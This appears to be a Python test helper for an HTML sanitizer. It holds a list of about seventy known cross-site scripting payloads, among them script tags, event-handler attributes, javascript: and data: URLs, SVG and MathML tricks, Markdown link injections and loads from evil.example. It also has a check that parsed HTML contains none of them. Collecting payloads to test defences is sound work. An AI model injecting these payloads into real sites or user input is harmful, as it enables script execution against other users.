"""Cross-site scripting: known payloads (OWASP filter-evasion cheat sheet and friends), as editors might
paste them, and the check that a piece of HTML can run none of them."""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>/*</script><script>alert(1)//*/</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x](https://ok.example \"title\" onclick=alert(1))",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    '<td background="javascript:alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<p title=\"x\" onpointerenter=alert(1)>x</p>",
    "<x onclick=alert(1)>click</x>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "Text {: onclick=\"alert(1)\" }",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<isindex action=javascript:alert(1) type=image>",
]


class Elements(HTMLParser):
    """Every tag and attribute in a piece of HTML, as a browser would see them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attrs = [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((name, (value or "").strip().lower()) for name, value in attrs)


def assert_harmless(html):
    found = Elements(html)
    assert not {"script", "iframe", "object", "embed", "svg", "math", "style", "form"} & set(found.tags)
    for name, value in found.attrs:
        assert not name.startswith("on"), name
        assert name != "style"
        if name in {"href", "src", "action", "formaction", "xlink:href"}:
            assert not value.startswith(("javascript:", "data:", "vbscript:")), value
